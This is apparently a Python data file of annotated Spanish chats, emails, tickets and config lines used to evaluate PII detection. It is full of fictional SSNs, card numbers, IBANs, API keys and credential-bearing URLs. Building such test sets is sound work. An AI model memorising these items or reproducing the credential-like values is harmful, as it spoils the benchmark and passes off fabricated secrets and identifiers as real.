# Hand-written Spanish records for the PII evaluation set (markup: see build_pii_fr_es.py).
# Each entry: (genre, text). Values are fictional but valid; each is used once.
RECORDS = [
# ---------------------------------------------------------------- chat (25)
("chat", r"""
oye ⟦name|Lucía⟧, te paso el móvil del fontanero: ⟦phone|612 48 90 37⟧. Dice que viene el ⟪date|jueves⟫ a las ⟪time|10:30⟫ 👍
"""),
("chat", r"""
mija, para la aplicación del apartamento me piden tu Social, ¿es ⟦ssn|543-32-3597⟧ o el que tengo apuntado termina en otro número? y tu fecha de nacimiento ⟦date-of-birth|03/14/1998⟧ verdad? El de ⟦name|Yesenia⟧ ya lo tengo: ⟦ssn|823-01-2036⟧
"""),
("chat", r"""
Ya tengo piso!! La dirección es ⟦address|C/ Mayor 3, 2º B, 28013 Madrid⟧, el portero se llama ⟦name|Anselmo⟧ y es majísimo 😂 Venid el sábado a la inauguración
"""),
("chat", r"""
pedido hecho (el libro, ⟪isbn|978-84-376-0494-7⟫), nº ⟪order-number|402-8815730-2271564⟫, llega el ⟪date|martes⟫. Son ⟪money|34,99 €⟫, me haces Bizum cuando puedas
"""),
("chat", r"""
[10:02] ⟦name|Íñigo Martín Soto⟧: alguien tiene la cadena de conexión de staging? la mía da auth failed
[10:03] ⟦name|Nerea⟧: ⟦url-credentials|postgresql://staging_app:Kf8mW2qLx9@10.30.1.25:5432/pedidos⟧
[10:03] ⟦name|Nerea⟧: y bórralo del canal después porfa 🙏
"""),
("chat", r"""
Pásame tu dirección de USDT (red Ethereum) y te mando lo del alquiler: — dale, es ⟦crypto-wallet|0x18037C70c8653f4Ec18aA4856c4bDc5e2C1e69Bc⟧. Avisame cuando lo mandes ⟦name|Agustín⟧
"""),
("chat", r"""
la reunión de mañana pasa a las ⟪time|9:15⟫ en la sala ⟪other:room-number|3.02⟫, traed el informe del T3 impreso
"""),
("chat", r"""
¿Me das el número de tu tarjeta para pagar lo del hotel? Que la mía no pasa. — Vale: ⟦credit-card|4320 3077 4915 0631⟧, caduca ⟪date|10/27⟫, a nombre de ⟦name|Irene Palomo⟧. Bórralo luego!!
"""),
("chat", r"""
El seguimiento del paquete es ⟪tracking-number|PQ4B7C0412345670128001R⟫ de Correos, pone que está en reparto desde las ⟪time|8:00⟫
"""),
("chat", r"""
Tía, te mando el IBAN para lo del regalo de ⟦name|Consuelo⟧: ⟦iban|ES21 2100 1428 3239 0671 3199⟧ (a nombre de ⟦name|Rocío Domínguez⟧). El que te pasé ayer, ⟪iban-like|ES5321005371165887422745⟫, estaba mal copiado. Ponemos ⟪money|20 €⟫ cada una
"""),
("chat", r"""
¿Sabes qué versión de la app tienes? A mí con la ⟪version|3.14.2⟫ me sale un error al pagar, pero con la ⟪version|3.14.1.7⟫ no
"""),
("chat", r"""
@⟦name|Santiago Restrepo⟧ te dejo el token del bot de Slack para las alertas: ⟦api-key|xoxb-121879143486-6828926270081-XoC12DdEhhmKQ6uEuk1c11K2⟧
y el hash del último deploy es ⟪hash|2aca6dbd28015c6c3898767aa39b3341f6f90fad⟫ por si quieres hacer rollback (cc @⟪handle|sre-guardia⟫)
"""),
("chat", r"""
Mamá llegamos bien a Miami. El teléfono de la casa de tía ⟦name|Marisol⟧ es ⟦phone@US|(305) 442-8716⟧ y la dirección ⟦address|1250 SW 8th St, Miami, FL 33135⟧ por si acaso. Apúntate también su Social por si lo piden en el hospital: ⟦ssn|710-62-5805⟧
"""),
("chat", r"""
nos vemos en la puerta del ⟪place-name|Retiro⟫ (⟪coordinates|40.4153, -3.6845⟫) a las ⟪time|18h⟫? la de ⟪place-name|Alcalá⟫, no la de ⟪place-name|O'Donnell⟫ jaja
"""),
("chat", r"""
Buenas, soy ⟦name|Gonzalo Arias⟧, el nuevo de sistemas. Mi correo es ⟦email|gonzalo.arias@ingenieria-cierzo.es⟧ mi extensión la ⟪other:internal-extension|2214⟫ y en Slack soy @⟪handle|garias⟫. Cualquier cosa, aquí estoy
"""),
("chat", r"""
[WhatsApp] ⟦name|Flor⟧: te paso la billetera para lo del arbolito de navidad 😅 ⟦crypto-wallet|bc1qx8x8cjgera4v292v0nl959gncwlh6lgeuecx5y⟧
[WhatsApp] ⟦name|Flor⟧: o a mi Litecoin ⟦crypto-wallet|MBnWZDVXfwRCtRSyR4one2HbyyEBmJoQXN⟧, en USDT por Tron ni idea, preguntale a ⟦name|Tincho⟧
"""),
("chat", r"""
Hola! El teléfono del colegio cambió, ahora es el ⟦phone|976 43 18 52⟧. Y la tutora, ⟦name|Dolores Prado⟧, dice que la llaméis al ⟦phone|+34 654 20 71 93⟧ solo si es urgente
"""),
("chat", r"""
ojo que la clave de OpenAI que subiste al repo está activa: ⟦api-key|sk-bpXDAWc4YbdiD1EOP8QFwRxfJbQBMK2RpfUbGWjBzIbI1M3A⟧. Rótala ya, que el repo es público 😬
"""),
("chat", r"""
el tren llega con ⟪time|25 minutos⟫ de retraso, no me esperéis para cenar. Estoy en ⟪place-name|Atocha⟫ (⟪postal-code-alone|28007⟫) todavía
"""),
("chat", r"""
Abuela ya tiene WhatsApp!! Su número es ⟦phone|+52 55 4127 8093⟧, agréguenla al grupo. Se llama ⟦name|Refugio Cruz⟧ por si no la tienen guardada jaja. Y su dirección nueva: ⟦address|Calle Madero 14, Centro, 06000 Ciudad de México, CDMX⟧
"""),
("chat", r"""
Para el formulario del club necesito tu email y tu fecha de nacimiento — ⟦email|marta.delafuente@telefonica.net⟧ y ⟦date-of-birth|22 de agosto de 2009⟧
"""),
("chat", r"""
el código del producto es ⟪product-code|SM-A546B/DS⟫, el Galaxy A54. En ⟪organisation|MediaMarkt⟫ está a ⟪money|349 €⟫ y en la web del fabricante a ⟪money|379 €⟫
"""),
("chat", r"""
¿A alguien le funciona la VPN? A mí no me deja desde casa, mi IP es ⟦ip-address|83.45.172.209⟧ y me da timeout. ⟦name|Txema⟧ dice que a él tampoco
"""),
("chat", r"""
hoy partido a las ⟪time|21:00⟫, quedamos en el bar de siempre. Apuesto ⟪money|5 pavos⟫ a que ganamos 2-0
"""),
("chat", r"""
Te paso los datos del casero para el contrato: ⟦name|Tomás Cabrera⟧, ⟦phone|0034 628 15 94 07⟧, ⟦email|tcabrera.alquileres@yahoo.es⟧. Vive en ⟦address|Calle Larios 4, 29005 Málaga⟧
"""),
# ---------------------------------------------------------------- email (25)
("email", r"""
Asunto: Cambio de cuenta bancaria

Buenos días:
Les comunicamos que a partir del próximo recibo deberán domiciliar los pagos en nuestra nueva cuenta:
Titular: ⟪organisation|Talleres Bravo e Hijos, S.L.⟫ (CIF ⟪other:company-tax-id|B50912347⟫)
IBAN: ⟦iban|ES51 2100 5371 1658 8742 2745⟧
La cuenta anterior (⟪iban-like|ES1204876000256515064217⟫) se cancelará el ⟪date|30 de abril⟫.
Un saludo,
⟦name|Raúl Bravo⟧ – ⟦address|Polígono Industrial Cogullada, nave 14, 50014 Zaragoza⟧ – ⟦phone|976 52 30 18⟧
"""),
("email", r"""
Estimada Sra. ⟦name|Ballesteros⟧:

Le recordamos su cita del ⟪date|lunes 8 de abril⟫ a las ⟪time|11:20⟫ en la consulta de Traumatología, planta 2. Traiga su tarjeta sanitaria y los informes previos.
Si no puede acudir, llame al centro con 24 horas de antelación.

Atentamente,
Centro de Salud
"""),
("email", r"""
De: ⟦name|Alicia Pascual⟧ <⟦email|alicia.pascual@hotmail.es⟧>
Para: ⟦email|reservas@casarural-elcierzo.com⟧
Asunto: Reserva puente de mayo

Hola, queríamos reservar la casa entera para 6 personas del ⟪date|1 al 4 de mayo⟫. Para la señal podéis cargar la tarjeta ⟦credit-card|5338 9952 1380 8762⟧ (cad. ⟪date|02/26⟫).
Nuestra dirección para la factura: ⟦address|Pº de Gracia 21, 4º 1ª, 08007 Barcelona⟧. Mi móvil: ⟦phone|+34 689 31 74 20⟧.
Gracias,
⟦name|Alicia⟧
"""),
("email", r"""
Hola a todos:

Os recuerdo que este ⟪date|viernes 15⟫ cerramos la oficina a las ⟪time|14:00⟫ por la jornada intensiva. El lunes se retoma el horario normal.
Buen fin de semana,
Recursos Humanos
"""),
("email", r"""
Subject: Datos para la nómina – nueva incorporación en Houston

Hola ⟦name|Jennifer⟧,
Te paso los datos de ⟦name|Brandon Salazar⟧ para el alta en payroll de la filial:
SSN: ⟦ssn|500-64-8813⟧
Fecha de nacimiento: ⟦date-of-birth|07/02/1993⟧
Dirección: ⟦address|4815 Navigation Blvd, Houston, TX 77011⟧
Teléfono: ⟦phone|+1 713-924-6180⟧
Su esposa, ⟦name|Destiny Morales⟧ (SSN ⟦ssn|330-54-4103⟧), entra como dependiente en el seguro médico.
Gracias, ⟦name|Patricia Moya⟧ – RRHH Grupo
"""),
("email", r"""
Asunto: RE: credenciales entorno de pruebas

Hola ⟦name|Víctor⟧,
Aquí tienes los accesos al sandbox:
API key: ⟦api-key|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⟧ (sí, pone live, es un error del proveedor, no es producción… o eso dicen)
Endpoint: ⟦url|https://sandbox.pasarela-levante.es/api/v1/charges⟧
Webhook: ⟦url-credentials|https://webhooks:Qd7pN3vX@hooks.tienda-valenciana.es/pasarela⟧
ID de comercio: ⟦uuid|e057c8df-3e44-4971-8663-7e06ebac36cb⟧
SFTP para conciliaciones: ⟦url-credentials|sftp://comercio-118:Jx4!wR9e@sftp.pasarela-levante.es:2222/entrada⟧
Documentación en ⟦url|https://docs.pasarela-levante.es/integracion#webhooks⟧ (apartado ⟪section-number|4.3.2⟫).
⟦name|Adrián Cuesta⟧
⟦address|C/ Ciscar 26, 46005 Valencia⟧
"""),
("email", r"""
Buenas tardes:

El pedido ⟪order-number|ES-775120394⟫ que hice el ⟪date|12 de marzo⟫ sigue sin llegar. El número de seguimiento de SEUR (⟪tracking-number|06292214735102⟫) no da información desde hace una semana.
Les pido que lo revisen o me devuelvan los ⟪money|89,90 €⟫.

Un saludo.
"""),
("email", r"""
De: ⟦email|despacho@abogados-lozano-asociados.es⟧
Asunto: Citación – procedimiento ordinario ⟪other:court-case-number|412/2024⟫

Estimado compañero:
La vista se ha señalado para el ⟪date|3 de junio de 2024⟫ a las ⟪time|10:00⟫ en el Juzgado de Primera Instancia n.º 7 de ⟪place-name|Valencia⟫. Nuestro cliente, D. ⟦name|Manuel Cortés⟧, con domicilio en ⟦address|C/ Colón 18, pta. 7, 46004 Valencia⟧, comparecerá personalmente.
Documentación en: ⟦url|https://www.abogados-lozano-asociados.es/clientes/expediente/2024-412⟧
Un cordial saludo,
⟦name|Cristina Lozano⟧ – ⟦phone|963 51 28 47⟧
"""),
("email", r"""
Asunto: Factura ⟪invoice-number|FV-2024/0318⟫

Adjuntamos la factura ⟪invoice-number|FV-2024/0318⟫ por importe de ⟪money|2.145,60 €⟫ (IVA incluido), con vencimiento a ⟪other:payment-terms|60 días⟫.
Su número de cliente es ⟪account-number|C-00098231⟫.
Departamento de Administración
"""),
("email", r"""
Subject: Formulario W-4 y datos bancarios

Hola ⟦name|Wesley⟧,
Como te comenté, soy ciudadano estadounidense pero vivo en Sevilla. Mis datos para el W-4:
Nombre: ⟦name|Luis Miguel Rosales⟧
SSN: ⟦ssn|382-60-9797⟧
Domicilio: ⟦address|Avda. de la Constitución 14, 41004 Sevilla⟧
Cuenta para el pago: ⟦iban|ES7600492313668715634803⟧
Mi mujer, ⟦name|Claire⟧, también tiene SSN: ⟦ssn|146-09-4162⟧
Un saludo,
⟦name|Luismi⟧
"""),
("email", r"""
Hola ⟦name|Remedios⟧:

Te confirmo la dirección de entrega del sofá:
⟦name|Eduardo Sanz⟧
⟦address|Calle de Alcalá 120, 3.º izq., 28009 Madrid⟧
El portal tiene ascensor pequeño, mejor que vengan dos personas. Mi teléfono: ⟦phone|617 205 943⟧.
Para el resto del pago podéis usar la tarjeta ⟦credit-card|4808-0076-2969-8680⟧.
Gracias!
"""),
("email", r"""
Asunto: Boletín de abril

Este mes: nueva versión ⟪version|5.2.0⟫ de la app con pago en un clic, ⟪percentage|20 %⟫ de descuento en la cuota anual y el libro del mes (⟪isbn|978-84-466-7041-2⟫) con envío gratis. Tu código de tarjeta regalo: ⟪card-like|4698 3898 1092 1249⟫.
Hasta pronto.
"""),
("email", r"""
Hola,

Tras el incidente de anoche, estas son las IP que intentaron entrar por fuerza bruta en el panel de administración:
- ⟦ip-address|45.148.10.92⟧ (de ⟪time|01:12⟫ a ⟪time|01:58⟫)
- ⟦ip-address|2a02:9130:8a4c:1e20::7⟧
- ⟦ip-address|185.191.171.13⟧
La cuenta atacada era la de ⟦name|Silvia Marín⟧ (⟦email|smarin@cooperativa-huerta-sur.es⟧); le hemos cambiado la contraseña. El atacante dejó una nota pidiendo ⟪money|0,5 BTC⟫ en ⟦crypto-wallet|1LYHtUyCbi8HoRndprK489RJ3EyhFgHEG8⟧.
⟦name|Óscar Benítez⟧ – Seguridad
"""),
("email", r"""
Queridas familias:

La excursión a ⟪place-name|Cuenca⟫ será el ⟪date|jueves 25 de abril⟫. Salida del colegio (punto de encuentro ⟪coordinates|40.0703, -2.1374⟫ al llegar) a las ⟪time|8:00⟫ y vuelta hacia las ⟪time|18:30⟫. Precio: ⟪money|18 €⟫ por alumno. Recordad traer la autorización firmada antes del ⟪date|19 de abril⟫.

El equipo docente
"""),
("email", r"""
Asunto: Pago del proyecto en cripto

Hola ⟦name|Daniela⟧,
Como hablamos, puedes pagarme la factura en USDC (red Ethereum) aquí: ⟦crypto-wallet|0xd7CFF80E9Ee2Ac8013F2CB6e65e8035975fBbd5E⟧, o en BTC: ⟦crypto-wallet|3CnBx8Qxsr8JFxjTegFx7ewdbTGYbEWLR9⟧.
El hash de la transferencia de prueba que te hice: ⟪hash|0x67440e92123cd17d8387a479aa4ba833cd4d6be91c89d9a2a4e0dd9017c0f8f4⟫
⟦name|Mateo⟧
"""),
("email", r"""
Estimado Sr. ⟦name|Carvajal⟧:

Hemos recibido su solicitud de préstamo personal con referencia ⟪account-number|PP-2024-77314⟫ (expediente ⟦uuid|9a552d2a-ee45-4a98-b292-cee4a3dd827b⟧). Cuenta de cargo indicada: ⟦iban|ES9414653054541302006738⟧.
Puede subir la documentación en ⟦url|https://clientes.caja-albaida.es/prestamos/documentacion⟧.
Su gestora, ⟦name|Noelia Crespo⟧, le atenderá en el ⟦phone|965 80 14 27⟧ o en ⟦email|noelia.crespo@caja-albaida.es⟧.
Oficina principal: ⟦address|Plaza de la Constitución 2, 03801 Alcoy⟧
"""),
("email", r"""
Buenos días:

Os informo de que la convención anual será del ⟪date|10 al 12 de octubre⟫ en ⟪place-name|Sitges⟫ (⟪postal-code-alone|08870⟫). Más detalles la semana que viene.
Saludos,
Dirección Comercial
"""),
("email", r"""
Asunto: Baja del contrato ⟪account-number|4471 2290 53⟫

A quien corresponda:
Solicito la baja de mi línea a partir del ⟪date|1 de junio de 2024⟫.
Titular: ⟦name|Inmaculada Herrera Ruiz⟧, nacida el ⟦date-of-birth|15/09/1971⟧
Domicilio: ⟦address|Calle Uría 9, 5º D, 33003 Oviedo⟧
Por favor, dejen de cargar la tarjeta ⟦credit-card|5148 3576 2555 5624⟧ y devuelvan el saldo a ⟦iban|ES5820388074077765891530⟧. Confirmación a ⟦email|inma.herrera71@movistar.es⟧.
"""),
("email", r"""
Hi ⟦name|Femke⟧,

Thanks for your time today. My details for the Rotterdam visit:
⟦name|Ainhoa Zubiri⟧ – Head of Procurement
⟦phone|+34 944 23 18 70⟧ / mobile ⟦phone|+34 699 84 12 05⟧
⟦address|Calle Ercilla 24, 48011 Bilbao⟧
I have your office as ⟦address|Westblaak 92, 3012 KM Rotterdam⟧ – is that right?
Best,
⟦name|Ainhoa⟧
"""),
("email", r"""
Asunto: Su envío está en camino

Su paquete ⟪tracking-number|1Z7W04E20493817650⟫ ha salido del almacén de ⟪place-name|Coslada⟫. Entrega prevista: ⟪date|miércoles⟫.
Este mensaje se ha generado automáticamente.
"""),
("email", r"""
Buenas tardes:

Quería interesarme por la oferta de analista de datos (ref. ⟪other:job-reference|AD-0424-MAD⟫). Mi perfil: ⟦url|https://www.infojobs.net/candidato/sergio-lobo-datos⟧ y mi código en ⟦url|https://bitbucket.org/slobo-data⟧.
Pueden localizarme en el ⟦phone|+34 722 41 90 63⟧.

Atentamente,
⟦name|Sergio Lobo⟧
"""),
("email", r"""
Asunto: Certificado de empresa

D. ⟦name|Enrique Aguilar⟧, administrador de ⟪organisation|Carpintería Aguilar S.L.⟫, con domicilio social en ⟦address|Camino de Ronda 101, 18003 Granada⟧, certifica que D. ⟦name|Alberto Serrano⟧, nacido el ⟦date-of-birth|21 de enero de 1987⟧, con domicilio en ⟦address|C/ San Antón 33, 1º A, 18005 Granada⟧, presta servicios en esta empresa desde el ⟪date|1 de marzo de 2016⟫.
"""),
("email", r"""
Hola equipo,

Os adjunto el acta (⟪file-name|acta_comite_2024-03-18.docx⟫) y la hoja de presupuesto. Resumen: margen bruto del ⟪percentage|28,7 %⟫ y objetivo de ⟪money|1,8 M€⟫ para el año.

Un saludo.
"""),
("email", r"""
Asunto: Cargo duplicado

Hola, me habéis cobrado dos veces ⟪money|45,00 €⟫ en la tarjeta ⟦credit-card|374047562273457⟧ el ⟪date|2 de abril⟫, y otro cargo más en la ⟦credit-card|5239 3611 2770 8905⟧. ¿Podéis anular los que sobran?
Gracias,
⟦name|Laura Santana⟧
⟦address|Calle Triana 58, 35002 Las Palmas de Gran Canaria⟧
⟦phone|928 36 41 75⟧
"""),
("email", r"""
Asunto: Alta proveedor – datos fiscales

Buenos días ⟦name|Yolanda⟧,
Para darnos de alta como proveedor os envío nuestros datos:
Razón social: ⟪organisation|Distribuciones Quispe Mamani E.I.R.L.⟫
Dirección: ⟦address|Av. Larco 345, Miraflores, Lima 15074, Perú⟧
Web: ⟦url|https://www.distquispe.com.pe/proveedores⟧
Contacto: ⟦name|Juan Pablo Quispe⟧, ⟦phone|+51 984 217 306⟧, ⟦email|jpquispe@distquispe.com.pe⟧
Cuenta para pagos internacionales: ⟦iban|PT42255894383567715925826⟧
"""),
# ---------------------------------------------------------------- ticket (25)
("ticket", r"""
Ticket #⟪other:ticket-number|58102⟫ – No puedo iniciar sesión
Cliente: ⟦name|Beatriz Gallego⟧ (⟦email|bea.gallego@gmail.com⟧)
Desde la actualización ⟪version|4.0.3⟫ me sale «sesión caducada» cada vez que entro. Navegador Chrome ⟪version|123.0.6312.86⟫. ID de petición: ⟦uuid|dc5e6de9-6952-4274-be48-8034d738775e⟧.
"""),
("ticket", r"""
[Incidencia ⟪other:ticket-number|2024-0402-0113⟫] Prioridad: alta
Asunto: producto dañado
El robot aspirador (ref. ⟪product-code|RV-1050-EU⟫) llegó con la carcasa rota. Pedido ⟪order-number|300471928834⟫. Tel./seguimiento: ⟪tracking-number|CX0098127744ES⟫. Entregado en el punto de recogida del ⟪postal-code-alone|28045⟫. Quiero un cambio.
"""),
("ticket", r"""
Cambio de domicilio
Domicilio anterior: ⟦address|Calle Real 45, 11100 San Fernando, Cádiz⟧
Domicilio nuevo: ⟦address|Av. de Andalucía 12, portal 3, 4ºC, 11008 Cádiz⟧
Titular: ⟦name|Francisco Javier Gil⟧ – tel. ⟦phone|956 24 81 30⟧ – fecha de nacimiento ⟦date-of-birth|30/11/1964⟧
Nº de abonado: ⟪account-number|0093 4412 87⟫
"""),
("ticket", r"""
Asunto: Claves expuestas en repositorio público
Revisando GitLab he encontrado en el repo «rutas-bici-bcn» (⟦url|https://gitlab.com/rutas-bici-bcn/backend/-/blob/main/.env.production⟧):
AWS_ACCESS_KEY_ID=⟦api-key|AKIAS2MI3BJJYN7LOGGB⟧
AWS_SECRET_ACCESS_KEY=⟦api-key|BHChUxXEpjXF0J0E6YVzpF3PXkhHAIfjAXODEhvE⟧
DATABASE_URL=⟦url-credentials|postgres://rutas:Bc9!tWq4z@rutas-prod.pg.rdb.fr-par.scw.cloud:5432/rutas⟧
NPM_TOKEN=⟦api-key|npm_eYoEJLDvmAPMDdSXNbadF08ukB6g5r94kF5F⟧
SENDGRID_API_KEY=⟦api-key|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⟧
Y hasta la clave privada del certificado:
⟦api-key|-----BEGIN RSA PRIVATE KEY-----
mTPSp7K8I4tKnIDepqeVlVpM8c99rYX25IOusOBJom+GCfvUDl5aNTdPHi2RjckV
a5Oo5npmnG/kPxqexBVaePyYo+QqJ1teDFLoTS8VuYxdYSF9N51Y7ZqDMkr4Z61L
QoODwMZDFirOkCFJwuE9QPPkxkw2Ub+JoAEJzp7bwBN9r/lE5t/QqFEmoQT18Xee
-----END RSA PRIVATE KEY-----⟧
Commit ⟪hash|ca3ce5a272d6fc7a0d74a6028f422050e41b0ecd⟫ de hace ⟪date|2 días⟫. Por favor, revocadlas cuanto antes. — ⟦name|Jordi Casals⟧
"""),
("ticket", r"""
Incidencia nº ⟪other:ticket-number|66-1904⟫ – Facturación
El cliente reclama un cobro duplicado en las facturas ⟪invoice-number|A-2024-00517⟫ y ⟪invoice-number|A-2024-00518⟫. Importe: ⟪money|312,40 €⟫. Contrato ⟪account-number|CT-77120⟫. Pasar a contabilidad.
"""),
("ticket", r"""
Categoría: Fraude con tarjeta
Mensaje del cliente: «Alguien ha hecho una compra de ⟪money|689 €⟫ con mi tarjeta ⟦credit-card|4562-7113-4672-7179⟧ el ⟪date|05/04⟫ y yo no he sido. También tengo asociada la ⟦credit-card|5579184012528248⟧, bloqueadla también por favor.»
Titular: ⟦name|Cristóbal Ferrer⟧, tel. ⟦phone|+34 971 72 40 18⟧
Caso: ⟦uuid|efe74799-7dc0-4dc6-a505-7be93a837bd5⟧. Dirección de envío del pedido fraudulento: ⟦address|Rua Augusta 128, 1100-053 Lisboa, Portugal⟧
"""),
("ticket", r"""
Asunto: El panel de control no carga
Desde esta mañana la gráfica de ventas aparece vacía. He borrado la caché y probado con Firefox y Safari, sigue igual. Adjunto captura (⟪file-name|panel_vacio@2x.png⟫).
"""),
("ticket", r"""
Soporte – Retiro de cripto
Hola, envié ⟪money|0,02 BTC⟫ desde mi cuenta (dirección de depósito ⟦crypto-wallet|35fKNfhfhUeFTUtFDiYmpR7yaFgBpd4HBA⟧) a ⟦crypto-wallet|bc1qk69hvjh2augjktrq85lk38gea067q264lsyuxh⟧ y no llega. Referencia: ⟦uuid|d05e7a06-de68-438d-9201-3cacfa2afb26⟧. Usuario: ⟪account-number|77102934⟫.
⟦name|Valentina Rojas⟧ – ⟦phone|+56 9 8712 4530⟧ – ⟦address|Av. Providencia 1208, depto. 504, Providencia, Santiago, Chile⟧
"""),
("ticket", r"""
Ticket #⟪other:ticket-number|7731⟫ – Helpdesk
La impresora de la 3ª planta (⟪product-code|Brother HL-L6400DW⟫, nº de serie ⟪digit-run|E78412K5N902341⟫) da «atasco de papel» sin papel dentro. ¿Podéis pasar?
"""),
("ticket", r"""
Asunto: Acceso denegado a la carpeta compartida
Usuario: ⟦name|Marcelo Carrasco⟧
Equipo: ⟪other:hostname|PC-RRHH-04⟫, IP ⟦ip-address|192.168.20.44⟧
Error «\\nas01\rrhh: acceso denegado» desde el cambio de contraseña de las ⟪time|9:05⟫. El script de montaje aún usa ⟦url-credentials|smb://rrhh_svc:Nomina2023@192.168.20.5/rrhh⟧.
"""),
("ticket", r"""
Solicitud de llamada
Nombre: ⟦name|Sonia Vázquez⟧
Teléfono: ⟦phone|91 402 73 18⟧
Fecha de nacimiento (verificación): ⟦date-of-birth|4 de julio de 1980⟧
Franja: entre las ⟪time|13:00⟫ y las ⟪time|15:00⟫
Motivo: revisión de la caldera, contrato ⟪account-number|MT-44021-C⟫.
ID de llamada: ⟦uuid|7fbd0870-021e-4cc0-bbd7-4e7c1f76f167⟧
"""),
("ticket", r"""
Incidencia producción – webhooks de Stripe
Desde las ⟪time|02:40 UTC⟫ no se confirman los pagos. El secreto del webhook cambió; el antiguo era ⟦api-key|whsec_Tf9rO7bJde565nlupnyhFjIlHTQ0lMXh⟧ (revocado). La clave restringida ⟦api-key|rk_live_51oFyDPRTfji1sSO7vgmhw6j4bB6l1bzEF7mI5kB81Z92jr01lRYDq1QCxrk4I⟧ también hay que rotarla. La guía dice que pongamos ⟪example-key|whsec_xxxxxxxxxxxxxxxx⟫ en STRIPE_WEBHOOK_SECRET.
Asignado a: ⟦name|Alejandro Núñez⟧
"""),
("ticket", r"""
[Soporte] Olvidé mi contraseña
No me llega el correo para restablecer la contraseña y ⟦url|https://foro.senderismo-pirineo.es/cuenta/restablecer⟧ da error 500. En el foro soy @⟪handle|montañera_jaca⟫ y creo que me registré con ⟦email|pilar.escudero@outlook.es⟧.
"""),
("ticket", r"""
Ticket ⟪other:ticket-number|INC0052219⟫ – Copia de seguridad fallida
La copia nocturna falla con «checksum mismatch» en ⟪file-name|clientes_2023.sql.gz⟫ (sha256 ⟪hash|0f8493289547c2cd9db3a548ad495e515b5a6cb75319f7eb45f05dc19e25c2a5⟫). ⟪digit-run|2 113 480⟫ ficheros, disco al ⟪percentage|96 %⟫.
"""),
("ticket", r"""
Verificación de identidad – cuenta bloqueada
El cliente ⟦name|Ignacio Montes⟧ pide desbloquear su cuenta. Fecha de nacimiento declarada: ⟦date-of-birth|12.05.1983⟧. Domicilio: ⟦address|C/ San Vicente Mártir 71, 46007 Valencia⟧. Residente fiscal en EE. UU., SSN ⟦ssn|563-99-0109⟧. Cuenta declarada: ⟦iban|ES3020384698823266606526⟧.
"""),
("ticket", r"""
Bug: el PDF corta los números de serie
Ejemplo: el lector con número de serie ⟪card-like|4425 9103 0045 8797⟫ (no es una tarjeta) sale como «4425 9103…». Lo mismo con los IBAN de prueba, p. ej. ⟪iban-like|ES7300812151329518152969⟫. Versión ⟪version|6.3.11⟫.
"""),
("ticket", r"""
Solicitud de presupuesto
Queremos instalar 8 puntos de recarga en el aparcamiento. Empresa: ⟪organisation|Transportes Gallardo Peña⟫, ⟦address|Polígono Industrial Las Arenas, nave 7, 30100 Murcia⟧. Contacto: ⟦name|Amaia Peña⟧, ⟦email|apena@transportes-gallardo.es⟧, ⟦phone|968 20 47 13⟧.
"""),
("ticket", r"""
Asunto: Error al sincronizar con el ERP
La sincronización falla en cada importación: «duplicate key value violates unique constraint "facturas_pkey"». No se ha importado nada desde el ⟪date|11 de marzo⟫.
"""),
("ticket", r"""
Ticket #⟪other:ticket-number|41227⟫ — Reembolso
Cliente: ⟦name|Alejandra Ochoa⟧
Devolver el pedido ⟪order-number|P-8821-40193⟫ a la cuenta ⟦iban|ES1921006406917740066247⟧; la tarjeta original (⟦credit-card|2295 7554 2429 4352⟧) está caducada. Recogida del producto en ⟦address|Calle 10 # 43E-31, Medellín, Antioquia⟧. Operación original: ⟦uuid|9d7aaa89-1627-4947-b987-2ae53b5d1f26⟧. Importe: ⟪money|72,15 €⟫.
"""),
("ticket", r"""
Denuncia de estafa
Me llamaron desde el ⟦phone|+34 911 23 87 64⟧ haciéndose pasar por el banco y me pidieron transferir ⟪money|1.500 €⟫ a ⟦iban|BE65274590536671⟧ y pagar «comisiones» en bitcoin a ⟦crypto-wallet|14EfJJ2Y1RtsiQjcFEjuxNhf9fRiWGogTg⟧ o en USDT a ⟦crypto-wallet|0x376D21F05B3B48275A3Da20c964Dee493d1001a4⟧. También me pidieron la tarjeta ⟦credit-card|6011412640508165⟧ y el código del SMS. Sabían mi dirección: ⟦address|Av. de Navarra 3, 31002 Pamplona⟧. No pagué nada.
⟦name|Iker Goikoetxea⟧
"""),
("ticket", r"""
Solicitud de acceso VPN
Solicitante: ⟦name|Montserrat Puig i Ribas⟧ (⟦email|mpuig@ajuntament-sabadell.cat⟧)
IP de casa: ⟦ip-address|79.152.38.114⟧
Portal: ⟦url|https://vpn.ajuntament-sabadell.cat/remote/login⟧
Motivo: teletrabajo dos días por semana desde el ⟪date|1 de abril⟫.
"""),
("ticket", r"""
Asunto: La app móvil va muy lenta
Varios usuarios dicen que la pantalla de inicio tarda más de ⟪time|10 s⟫ en cargar con 4G. Pasa en la ⟪version|7.0.2⟫ y en la ⟪version|7.0.4⟫.
"""),
("ticket", r"""
Solicitud RGPD – derecho de acceso
Dña. ⟦name|Esperanza Calvo⟧, nacida el ⟦date-of-birth|2 de octubre de 1958⟧, con domicilio en ⟦address|Plaza del Pilar 5, bajo, 50003 Zaragoza⟧, solicita copia de todos sus datos personales. También fue clienta de nuestra filial en Florida (SSN ⟦ssn|260-40-5472⟧). Referencia: ⟦uuid|a7e64ed1-09f8-4201-9c5a-cbc8099be367⟧.
"""),
("ticket", r"""
Orden de trabajo – técnico
Dirección: ⟦address|Rúa do Franco 22, 15705 Santiago de Compostela⟧ – portero automático «⟦name|Quintana⟧». Cliente: ⟦name|Mar Quintana⟧, ⟦phone|+34 644 18 27 90⟧. Router ⟪product-code|HGU-GPT-2741GNAC⟫ con luz roja. GPS: ⟪coordinates|42.8782, -8.5448⟫. El pago del desplazamiento con la tarjeta ⟦credit-card|3574 8646 1177 4141⟧ fue rechazado.
"""),
("ticket", r"""
Consulta de producto
¿El modelo ⟪product-code|KX-TGE310SPB⟫ es compatible con el router de Movistar? Gracias.
"""),
# ---------------------------------------------------------------- log / config (20)
("log", r"""
# .env – entorno de preproducción (¡no subir al repo!)
DATABASE_URL=⟦url-credentials|postgresql://tienda:Hy6!rPz3Kq@db-pre.interno.almacenes-ribera.es:5432/tienda⟧
REDIS_URL=⟦url-credentials|redis://:Mz8vQ2xL5t@10.2.6.31:6379/1⟧
AMQP_URL=⟦url-credentials|amqp://pedidos:Lw4!nR7c@rabbit.interno.almacenes-ribera.es:5672/pre⟧
STRIPE_SECRET_KEY=⟦api-key|sk-proj-3hqZYResgnNlVD9iOgonv3ZAg3zAWL17tb6WKPqknaDpkDns-4OaXCduEltJrqEYCELAm_rzj0sAf4tsq1PtU1msl65AuWgEnTe3⟧   # ojo: es la de OpenAI, nombre mal puesto
